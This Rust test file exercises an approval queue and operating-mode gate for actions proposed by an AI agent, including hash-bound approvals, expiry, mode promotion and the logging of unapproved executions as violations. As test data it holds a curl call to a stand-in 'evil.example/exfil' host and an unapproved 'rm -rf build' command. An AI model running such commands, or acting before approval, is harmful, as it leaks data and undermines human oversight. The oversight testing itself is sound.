//! Approval queue and operating mode (seed 002), driven through the real
//! `argusctl`: proposals are appended as JSON lines, decisions are made with
//! `approvals approve|reject|sweep` and `mode set`, and every assertion reads
//! the `-o json` views.
use crate::common::{actor_of, argus, argus_stdin, init_log, p, record, to_lines, Run};
use serde_json::{json, Value};
use std::path::Path;
use std::time::Duration;

const NS_PER_S: u64 = 1_000_000_000;
const RATIONALE: &str = "Need to identify Horizon Europe funding programs";

fn proposal(id: &str, action_type: &str, risk: &str, params: Value) -> Value {
    json!({
        "kind": "proposal.created",
        "job_id": "job-janus-1",
        "agent": "janus",
        "payload": {
            "proposal_id": id,
            "action_type": action_type,
            "risk": risk,
            "rationale": RATIONALE,
            "mission_context": "Research EU funding opportunities for GeoDataCenter",
            "rollback_plan": "No system state changes, no rollback needed",
            "parameters": params,
        }
    })
}

fn with_timeout(mut v: Value, timeout_s: u64) -> Value {
    v["payload"]["timeout_s"] = timeout_s.into();
    v
}

fn run(dir: &Path, args: &[&str]) -> Run {
    let mut all = vec![p(dir).to_owned()];
    all.splice(0..0, args.iter().take(2).map(|a| a.into()));
    all.extend(args.iter().skip(2).map(|a| a.into()));
    argus(&all)
}

/// `argusctl approvals show DIR ID -o json`.
fn show(dir: &Path, id: &str) -> Value {
    let r = run(dir, &["approvals", "show", id, "-o", "json"]);
    r.assert_ok();
    r.json()
}

fn list(dir: &Path, all: bool) -> Vec<Value> {
    let mut args = vec!["approvals", "list", "-o", "json"];
    if all {
        args.push("--all");
    }
    let r = run(dir, &args);
    r.assert_ok();
    r.json_lines()
}

fn mode_show(dir: &Path) -> Value {
    let r = run(dir, &["mode", "show", "-o", "json"]);
    r.assert_ok();
    r.json()
}

fn entries(dir: &Path) -> u64 {
    let r = argus(["stats", dir.to_str().unwrap()]);
    r.assert_ok();
    r.json()["entries"].as_u64().expect("stats.entries")
}

fn digest(dir: &Path) -> String {
    let r = argus(["projections", "status", dir.to_str().unwrap(), "-o", "json"]);
    r.assert_ok();
    r.json_lines()
        .into_iter()
        .find(|v| v["name"] == "approvals")
        .and_then(|v| v["state_digest"].as_str().map(str::to_string))
        .expect("approvals in projections status")
}

/// Replaying the log from scratch (rebuild, and with the store deleted)
/// gives byte-identical approvals state and the same views.
fn assert_replay_identical(dir: &Path) {
    let live = digest(dir);
    let live_list = list(dir, true);
    let live_mode = mode_show(dir);
    let r = argus(["projections", "rebuild", dir.to_str().unwrap(), "approvals"]);
    r.assert_ok();
    assert_eq!(digest(dir), live, "rebuild changed the approvals digest");
    std::fs::remove_dir_all(dir.join("projections")).expect("rm projections");
    assert_eq!(
        digest(dir),
        live,
        "replay from an empty store changed the digest"
    );
    assert_eq!(list(dir, true), live_list, "replay changed the queue");
    assert_eq!(mode_show(dir)["history"], live_mode["history"]);
    assert_eq!(mode_show(dir)["approved"], live_mode["approved"]);
}

fn hash(params: &Value) -> String {
    argus::registry::parameter_hash(params)
}

#[test]
fn rationale_of_19_chars_is_rejected_at_append() {
    let (tmp, _) = init_log(None);
    let mut e = proposal("p19", "web_search", "low", json!({}));
    e["payload"]["rationale"] = "nineteen characters".into();
    assert_eq!("nineteen characters".chars().count(), 19);
    let r = argus_stdin(["append", tmp.path().to_str().unwrap()], &to_lines(&[e]));
    r.assert_code(2);
    assert!(r.stderr.contains("payload.rationale"), "{}", r.ctx());
    assert!(r.stderr.contains("19 characters"), "{}", r.ctx());
    assert_eq!(
        entries(tmp.path()),
        0,
        "a rejected entry must not be written"
    );
    // 20 characters is the minimum that passes.
    let mut e = proposal("p20", "web_search", "low", json!({}));
    e["payload"]["rationale"] = "exactly twenty chars".into();
    record(tmp.path(), &[e]);
    assert_eq!(show(tmp.path(), "p20")["status"], "pending");
}

#[test]
fn approval_against_a_changed_proposal_is_refused_and_binds_to_the_new_hash() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    let old = json!({"tool": "curl", "args": ["https://ec.europa.eu/info/funding-tenders/"]});
    let new = json!({"tool": "curl", "args": ["https://evil.example/exfil"]});
    record(
        dir,
        &[proposal(
            "janus-abc123def456",
            "web_search",
            "low",
            old.clone(),
        )],
    );
    let p1 = show(dir, "janus-abc123def456");
    assert_eq!(p1["parameter_hash"], hash(&old));
    assert_eq!(p1["status"], "pending");
    assert_eq!(p1["revision"], 1);

    // Same id, different parameters: a changed proposal, pending again.
    record(
        dir,
        &[proposal(
            "janus-abc123def456",
            "web_search",
            "low",
            new.clone(),
        )],
    );
    let p2 = show(dir, "janus-abc123def456");
    assert_eq!(p2["parameter_hash"], hash(&new));
    assert_eq!(p2["parameters"], new);
    assert_eq!(p2["revision"], 2);

    // An approval carrying the OLD hash, appended directly, is ignored.
    record(
        dir,
        &[json!({"kind": "proposal.approved", "payload": {
            "proposal_id": "janus-abc123def456", "parameter_hash": hash(&old),
            "mode": "alpha", "approver": "user:mallory"}})],
    );
    let p3 = show(dir, "janus-abc123def456");
    assert_eq!(
        p3["status"], "pending",
        "approval of old parameters took effect: {p3}"
    );
    assert_eq!(mode_show(dir)["approved"], 0);

    // The CLI refuses up front when the reviewed hash is stale: nothing appended.
    let before = entries(dir);
    let r = run(
        dir,
        &[
            "approvals",
            "approve",
            "janus-abc123def456",
            "--hash",
            &hash(&old),
        ],
    );
    r.assert_code(1);
    assert!(r.stderr.contains("changed since review"), "{}", r.ctx());
    assert_eq!(entries(dir), before);

    // A plain approve binds to the hash of the parameters held now.
    let r = run(
        dir,
        &[
            "approvals",
            "approve",
            "janus-abc123def456",
            "--reason",
            "read-only",
            "-o",
            "json",
        ],
    );
    r.assert_ok();
    let ack = r.json();
    assert_eq!(ack["kind"], "proposal.approved");
    assert_eq!(ack["payload"]["parameter_hash"], hash(&new));
    assert_eq!(ack["payload"]["mode"], "alpha");
    assert_eq!(ack["payload"]["approver"], actor_of("operator"));
    assert_eq!(ack["payload"]["reason"], "read-only");
    assert_eq!(
        entries(dir),
        before + 1,
        "approve appends exactly one entry"
    );
    let p4 = show(dir, "janus-abc123def456");
    assert_eq!(p4["status"], "approved");
    assert_eq!(p4["approver"], actor_of("operator"));
    assert_eq!(p4["decided_seq"], ack["seq"]);

    // Not pending any more: refused, nothing appended.
    let r = run(dir, &["approvals", "approve", "janus-abc123def456"]);
    r.assert_code(1);
    assert!(r.stderr.contains("only pending proposals"), "{}", r.ctx());
    assert_eq!(entries(dir), before + 1);

    // Changing an approved proposal withdraws the approval.
    let third = json!({"tool": "curl", "args": ["https://example.org"]});
    record(
        dir,
        &[proposal(
            "janus-abc123def456",
            "web_search",
            "low",
            third.clone(),
        )],
    );
    let p5 = show(dir, "janus-abc123def456");
    assert_eq!(p5["status"], "pending");
    assert_eq!(p5["parameter_hash"], hash(&third));
    // Resubmitting identical parameters is not a change.
    record(
        dir,
        &[proposal("janus-abc123def456", "web_search", "low", third)],
    );
    assert_eq!(show(dir, "janus-abc123def456")["revision"], 3);
    assert_replay_identical(dir);
}

/// Operators deciding the same proposal at the same moment: the writer lock
/// is held from the check to the append, so exactly one decision is written
/// and every other process fails with a clear error (after waiting its turn
/// for the lock it sees the decision; past `--lock-timeout` it says "locked").
#[test]
fn racing_decisions_write_exactly_one_entry() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[proposal(
            "p-race",
            "code_execution",
            "medium",
            json!({"cmd": "make"}),
        )],
    );
    let before = entries(dir);
    let d = dir.to_str().unwrap().to_string();
    let children: Vec<_> = (0..8)
        .map(|i| {
            let args: Vec<String> = if i % 2 == 0 {
                vec![
                    "approvals".into(),
                    "approve".into(),
                    d.clone(),
                    "p-race".into(),
                ]
            } else {
                let r = format!("racer {i} says no");
                vec![
                    "approvals".into(),
                    "reject".into(),
                    d.clone(),
                    "p-race".into(),
                    "--reason".into(),
                    r,
                ]
            };
            crate::common::cmd(&args)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let outs: Vec<_> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    let won = outs.iter().filter(|o| o.status.success()).count();
    assert_eq!(won, 1, "exactly one racer decides: {outs:?}");
    for o in outs.iter().filter(|o| !o.status.success()) {
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("locked")
                || err.contains("already")
                || err.contains("only pending proposals"),
            "a losing racer says why: {err}"
        );
    }
    assert_eq!(entries(dir), before + 1, "one decision entry, no more");
    let st = show(dir, "p-race")["status"].as_str().unwrap().to_string();
    assert!(st == "approved" || st == "rejected", "{st}");
}

#[test]
fn reject_requires_a_reason_and_leaves_the_pending_list() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[
            proposal("p-keep", "web_search", "low", json!({"q": 1})),
            proposal("p-drop", "code_execution", "medium", json!({"cmd": "make"})),
        ],
    );
    let before = entries(dir);
    let r = run(dir, &["approvals", "reject", "p-drop"]);
    r.assert_code(2);
    assert!(r.stderr.contains("--reason"), "{}", r.ctx());
    let r = run(dir, &["approvals", "reject", "p-drop", "--reason", "  "]);
    r.assert_code(1);
    assert_eq!(entries(dir), before, "a refused reject must not append");

    let r = run(
        dir,
        &[
            "approvals",
            "reject",
            "p-drop",
            "--reason",
            "Insufficient security review",
            "-o",
            "json",
        ],
    );
    r.assert_ok();
    assert_eq!(r.json()["payload"]["approver"], actor_of("operator"));
    let pending: Vec<Value> = list(dir, false);
    assert_eq!(pending.len(), 1, "{pending:?}");
    assert_eq!(pending[0]["proposal_id"], "p-keep");
    let dropped = show(dir, "p-drop");
    assert_eq!(dropped["status"], "rejected");
    assert_eq!(dropped["reason"], "Insufficient security review");
    assert_eq!(list(dir, true).len(), 2);
    let m = mode_show(dir);
    assert_eq!(m["rejected"], 1);
    assert_eq!(m["approval_rate"], 0.0);

    // Executor lifecycle entries move an approved proposal on.
    run(dir, &["approvals", "approve", "p-keep"]).assert_ok();
    record(
        dir,
        &[
            json!({"kind": "proposal.executing", "payload": {"proposal_id": "p-keep"}}),
            json!({"kind": "proposal.failed", "payload": {"proposal_id": "p-keep", "error": "timeout"}}),
            json!({"kind": "proposal.rolled_back", "payload": {"proposal_id": "p-keep", "reason": "failed"}}),
        ],
    );
    let kept = show(dir, "p-keep");
    assert_eq!(kept["status"], "rolled_back");
    assert_eq!(kept["error"], "timeout");
    assert_eq!(mode_show(dir)["approval_rate"], 0.5);
    assert_replay_identical(dir);
}

#[test]
fn timeouts_default_24h_policy_or_per_proposal_and_sweep_records_expiry() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[proposal("p-default", "web_search", "low", json!({}))],
    );
    record(
        dir,
        &[
            json!({"kind": "policy.set", "payload": {"policy_id": "approval-timeout", "scope": "global",
                "policy_type": "approval_timeout", "config": {"seconds": 1}}}),
            // Not global: does not set the approval timeout.
            json!({"kind": "policy.set", "payload": {"policy_id": "agent-timeout", "scope": "agent:janus",
                "policy_type": "approval_timeout", "config": {"seconds": 7}}}),
        ],
    );
    record(
        dir,
        &[
            proposal("p-policy", "web_search", "low", json!({})),
            with_timeout(proposal("p-own", "web_search", "low", json!({})), 3600),
            with_timeout(proposal("p-quick", "web_search", "low", json!({})), 1),
        ],
    );
    let span = |id: &str| {
        let v = show(dir, id);
        v["deadline_ns"].as_u64().unwrap() - v["created_ts_ns"].as_u64().unwrap()
    };
    assert_eq!(span("p-default"), 24 * 3600 * NS_PER_S);
    assert_eq!(span("p-policy"), NS_PER_S);
    assert_eq!(span("p-own"), 3600 * NS_PER_S);
    assert_eq!(span("p-quick"), NS_PER_S);

    std::thread::sleep(Duration::from_millis(1200));
    // No entry since the deadline: the projection still says pending, the
    // view flags it, and approving is refused by the clock check.
    let q = show(dir, "p-quick");
    assert_eq!(q["status"], "pending");
    assert_eq!(q["display_status"], "pending (past deadline)");
    let before = entries(dir);
    let r = run(dir, &["approvals", "approve", "p-quick"]);
    r.assert_code(1);
    assert!(r.stderr.contains("deadline"), "{}", r.ctx());
    assert_eq!(entries(dir), before);

    // An unrelated entry with ts >= deadline expires them in log time.
    record(dir, &[json!({"kind": "x.tick", "payload": {}})]);
    let awaiting = list(dir, false);
    let status = |id: &str| {
        awaiting
            .iter()
            .find(|v| v["proposal_id"] == id)
            .map(|v| v["display_status"].as_str().unwrap().to_string())
    };
    assert_eq!(status("p-quick").as_deref(), Some("expired (unrecorded)"));
    assert_eq!(status("p-policy").as_deref(), Some("expired (unrecorded)"));
    assert_eq!(status("p-own").as_deref(), Some("pending"));
    assert_eq!(status("p-default").as_deref(), Some("pending"));
    assert_eq!(mode_show(dir)["expired"], 2);

    // An approval appended directly after the deadline changes nothing.
    record(
        dir,
        &[
            json!({"kind": "proposal.approved", "payload": {"proposal_id": "p-quick",
            "parameter_hash": hash(&json!({}))}}),
        ],
    );
    assert_eq!(show(dir, "p-quick")["status"], "expired");

    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    let swept = r.json_lines();
    assert_eq!(swept.len(), 2, "{}", r.ctx());
    for s in &swept {
        assert_eq!(s["kind"], "proposal.expired");
        assert_eq!(s["payload"]["timeout_s"], 1);
    }
    let ids: Vec<&str> = swept
        .iter()
        .map(|s| s["payload"]["proposal_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["p-policy", "p-quick"]);
    let quick = show(dir, "p-quick");
    assert_eq!(quick["status"], "expired");
    assert_eq!(quick["expiry_recorded"], true);
    assert_eq!(
        list(dir, false).len(),
        2,
        "recorded expiries leave the default list"
    );
    // Recorded once: a second sweep appends nothing, counts stay.
    let before = entries(dir);
    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    assert!(r.stdout.trim().is_empty(), "{}", r.ctx());
    assert_eq!(entries(dir), before);
    assert_eq!(mode_show(dir)["expired"], 2);

    // Sweep also records a proposal due by the clock when no later entry exists.
    record(
        dir,
        &[with_timeout(
            proposal("p-late", "web_search", "low", json!({})),
            1,
        )],
    );
    std::thread::sleep(Duration::from_millis(1200));
    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    let swept = r.json_lines();
    assert_eq!(swept.len(), 1, "{}", r.ctx());
    assert_eq!(swept[0]["payload"]["proposal_id"], "p-late");
    assert_eq!(show(dir, "p-late")["expiry_recorded"], true);
    assert_replay_identical(dir);
}

#[test]
fn mode_promotion_is_refused_with_every_unmet_reason() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[
            proposal("p1", "web_search", "low", json!({"q": 1})),
            proposal("p2", "web_search", "low", json!({"q": 2})),
        ],
    );
    let m = mode_show(dir);
    assert_eq!(m["mode"], "alpha");
    assert_eq!(m["approval_rate"], Value::Null);

    let before = entries(dir);
    let r = run(dir, &["mode", "set", "beta"]);
    r.assert_code(1);
    assert!(
        r.stderr
            .contains("days in alpha (log time); at least 30 are required"),
        "{}",
        r.ctx()
    );
    assert!(
        r.stderr.contains("no proposals decided in alpha"),
        "{}",
        r.ctx()
    );
    assert!(!r.stderr.contains("constitutional"), "{}", r.ctx());

    // A constitution anomaly counts as a violation; another detector does not.
    run(dir, &["approvals", "approve", "p1"]).assert_ok();
    run(
        dir,
        &["approvals", "reject", "p2", "--reason", "out of scope"],
    )
    .assert_ok();
    record(
        dir,
        &[
            json!({"kind": "anomaly.detected", "payload": {"detector": "constitution", "severity": "critical", "reason": "executed without approval"}}),
            json!({"kind": "anomaly.detected", "payload": {"detector": "cost_spike", "severity": "warning", "reason": "3x baseline"}}),
        ],
    );
    let m = mode_show(dir);
    assert_eq!(m["constitutional_violations"], 1);
    assert_eq!(m["approval_rate"], 0.5);
    let r = run(dir, &["mode", "set", "beta"]);
    r.assert_code(1);
    assert!(r.stderr.contains("at least 30 are required"), "{}", r.ctx());
    assert!(
        r.stderr
            .contains("approval rate 50.0% (1/2) in alpha; at least 95%"),
        "{}",
        r.ctx()
    );
    assert!(
        r.stderr.contains("1 constitutional violation(s) in alpha"),
        "{}",
        r.ctx()
    );

    let r = run(dir, &["mode", "set", "omega"]);
    r.assert_code(1);
    assert!(
        r.stderr
            .contains("omega requires 180 days in beta; the current mode is alpha"),
        "{}",
        r.ctx()
    );
    assert!(r.stderr.contains("--recommendation"), "{}", r.ctx());
    assert_eq!(
        entries(dir) - before,
        4,
        "refusals must not append (4 = approve, reject, 2 anomalies)"
    );

    // Alpha is always allowed, and restarting it resets the evidence window.
    let r = run(
        dir,
        &[
            "mode",
            "set",
            "alpha",
            "--reason",
            "restart after incident 17",
            "-o",
            "json",
        ],
    );
    r.assert_ok();
    let ack = r.json();
    assert_eq!(ack["kind"], "mode.changed");
    assert_eq!(ack["payload"]["from"], "alpha");
    assert_eq!(ack["payload"]["to"], "alpha");
    let m = mode_show(dir);
    assert_eq!(m["constitutional_violations"], 0);
    assert_eq!(m["constitutional_violations_total"], 1);
    assert_eq!(m["history"].as_array().unwrap().len(), 1);
    assert_eq!(m["history"][0]["actor"], actor_of("operator"));
    assert_eq!(m["history"][0]["unmet"], json!([]));
    assert_replay_identical(dir);
}

/// Acting on a proposal that was never approved is a constitutional
/// violation the log itself shows; acting on an approved one is not.
#[test]
fn executing_without_approval_counts_as_a_constitutional_violation() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[
            proposal("p-ok", "web_search", "low", json!({"q": 1})),
            proposal(
                "p-rogue",
                "code_execution",
                "medium",
                json!({"cmd": "rm -rf build"}),
            ),
            proposal("p-no", "deploy", "high", json!({"target": "prod"})),
        ],
    );
    run(dir, &["approvals", "approve", "p-ok"]).assert_ok();
    run(
        dir,
        &["approvals", "reject", "p-no", "--reason", "not in scope"],
    )
    .assert_ok();
    let outcome = |id: &str, kind: &str| json!({"kind": kind, "payload": {"proposal_id": id}});
    record(
        dir,
        &[
            outcome("p-ok", "proposal.executing"),
            outcome("p-ok", "proposal.completed"),
            outcome("p-rogue", "proposal.executing"),
            outcome("p-rogue", "proposal.completed"),
            json!({"kind": "proposal.failed", "payload": {"proposal_id": "p-no", "error": "permission denied"}}),
        ],
    );
    let m = mode_show(dir);
    assert_eq!(m["constitutional_violations"], 2, "{m}");
    assert!(show(dir, "p-ok")["violation"].is_null());
    let rogue = show(dir, "p-rogue");
    assert_eq!(rogue["status"], "completed");
    let v = rogue["violation"].as_str().expect("violation recorded");
    assert!(v.contains("proposal.executing while pending"), "{v}");
    let no = show(dir, "p-no")["violation"].as_str().unwrap().to_string();
    assert!(no.contains("proposal.failed while rejected"), "{no}");
    let r = run(dir, &["approvals", "show", "p-rogue"]);
    r.assert_ok();
    assert!(r.stdout.contains("CONSTITUTIONAL VIOLATION"), "{}", r.ctx());
    let r = run(dir, &["mode", "set", "beta"]);
    r.assert_code(1);
    assert!(
        r.stderr.contains("2 constitutional violation(s) in alpha"),
        "{}",
        r.ctx()
    );
    assert_replay_identical(dir);
}

#[test]
fn beta_playbook_auto_approves_matching_proposals_only() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    let params = json!({"path": "/var/log/janus", "op": "logrotate"});
    record(
        dir,
        &[
            json!({"kind": "playbook.set", "payload": {"playbook": "maintenance-001",
                "action_types": ["file_write"], "max_risk": "medium",
                "description": "Rotate and compress logs", "approved_by": "first_citizen"}}),
            proposal("p-match", "file_write", "medium", params.clone()),
            proposal("p-novel", "deploy", "high", json!({"target": "prod"})),
            proposal("p-risky", "file_write", "high", json!({"path": "/etc"})),
        ],
    );
    // Alpha: no auto-approval, and a playbook approval appended directly is ignored.
    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    assert!(r.stdout.trim().is_empty(), "{}", r.ctx());
    record(
        dir,
        &[
            json!({"kind": "proposal.approved", "payload": {"proposal_id": "p-match",
            "parameter_hash": hash(&params), "mode": "beta", "playbook": "maintenance-001",
            "approver": "auto", "reason": "playbook match"}}),
        ],
    );
    assert_eq!(show(dir, "p-match")["status"], "pending");

    // Beta, recorded directly as an operator decision (the CLI would refuse
    // on a fresh log); the projection notes what the log did not show.
    record(
        dir,
        &[
            json!({"kind": "mode.changed", "payload": {"from": "alpha", "to": "beta", "reason": "First Citizen authorization"}}),
        ],
    );
    let m = mode_show(dir);
    assert_eq!(m["mode"], "beta");
    assert!(
        !m["history"][0]["unmet"].as_array().unwrap().is_empty(),
        "{m}"
    );

    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    let swept = r.json_lines();
    assert_eq!(swept.len(), 1, "{}", r.ctx());
    assert_eq!(swept[0]["kind"], "proposal.approved");
    assert_eq!(
        swept[0]["payload"],
        json!({"proposal_id": "p-match", "parameter_hash": hash(&params), "mode": "beta",
            "playbook": "maintenance-001", "approver": "auto", "reason": "playbook match"})
    );
    let matched = show(dir, "p-match");
    assert_eq!(matched["status"], "approved");
    assert_eq!(matched["playbook"], "maintenance-001");
    assert_eq!(matched["approval_mode"], "beta");
    assert_eq!(show(dir, "p-novel")["status"], "pending");
    assert_eq!(show(dir, "p-risky")["status"], "pending");
    let m = mode_show(dir);
    assert_eq!(m["auto_approved"], 1);
    assert_eq!(
        m["approved"], 0,
        "playbook approvals must not count toward the rate"
    );

    // Beta -> beta is refused; a removed playbook approves nothing.
    run(dir, &["mode", "set", "beta"]).assert_code(1);
    record(
        dir,
        &[
            json!({"kind": "playbook.removed", "payload": {"playbook": "maintenance-001"}}),
            proposal("p-match2", "file_write", "medium", params),
        ],
    );
    let r = run(dir, &["approvals", "sweep", "-o", "json"]);
    r.assert_ok();
    assert!(r.stdout.trim().is_empty(), "{}", r.ctx());
    assert_eq!(show(dir, "p-match2")["status"], "pending");
    assert_replay_identical(dir);
}

#[test]
fn views_print_text_and_unknown_ids_fail() {
    let (tmp, _) = init_log(None);
    let dir = tmp.path();
    record(
        dir,
        &[proposal("p-text", "web_search", "low", json!({"q": "x"}))],
    );
    let r = run(dir, &["approvals", "list"]);
    r.assert_ok();
    assert!(
        r.stdout.contains("p-text") && r.stdout.contains("pending"),
        "{}",
        r.ctx()
    );
    let r = run(dir, &["approvals", "show", "p-text"]);
    r.assert_ok();
    assert!(r.stdout.contains("PARAMETER HASH: "), "{}", r.ctx());
    let r = run(dir, &["mode", "show"]);
    r.assert_ok();
    assert!(
        r.stdout.contains("mode:") && r.stdout.contains("alpha"),
        "{}",
        r.ctx()
    );
    run(dir, &["approvals", "show", "nope"]).assert_code(1);
    run(dir, &["approvals", "approve", "nope"]).assert_code(1);
}
